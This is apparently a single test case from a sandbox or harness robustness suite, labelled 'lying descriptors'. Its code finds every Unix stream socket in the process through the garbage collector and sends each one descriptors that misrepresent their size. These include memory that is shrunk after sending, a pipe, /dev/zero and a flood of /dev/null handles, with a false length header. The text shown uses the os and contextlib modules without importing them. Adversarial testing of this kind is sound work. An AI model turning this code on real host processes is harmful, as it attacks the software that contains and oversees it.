# /// technique
# number = ["X07"]
# title = "lying descriptors"
# how = """
# Descriptors come with a reply: memory that shrinks after it was sent, a pipe, a terabyte of nothing, a device,
# many at once.
# """
# wanted = "contained"
# aftermath = true
# ///

# %% span
import fcntl
import gc
import socket
import struct


def memory(size, seals=0):
    number = os.memfd_create("frame", os.MFD_ALLOW_SEALING)
    os.ftruncate(number, size)
    fcntl.fcntl(number, fcntl.F_ADD_SEALS, seals)
    return number


EVERY = fcntl.F_SEAL_SHRINK | fcntl.F_SEAL_GROW | fcntl.F_SEAL_WRITE
LIES = [
    lambda: (64 << 20, [memory(64 << 20)]),
    lambda: (1 << 20, [os.pipe()[0]]),
    lambda: (1 << 28, [memory(1 << 28, EVERY)]),
    lambda: (1 << 40, [memory(1 << 20, EVERY)]),
    lambda: (100, [os.open("/dev/zero", os.O_RDONLY)]),
    lambda: (100, [memory(1 << 20, EVERY)]),
    lambda: (1 << 20, [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]),
    lambda: (0, []),
]


def span(values):
    length, numbers = LIES[len(values) % 8]()
    for one in gc.get_objects():
        if type(one) is socket.socket and one.type == socket.SOCK_STREAM and one.family == socket.AF_UNIX:
            with contextlib.suppress(OSError):
                socket.send_fds(one, [struct.pack("!4sQ", b"CWM\n", length)], numbers)
    with contextlib.suppress(OSError):
        os.ftruncate(numbers[0], 0)
    return -1.0
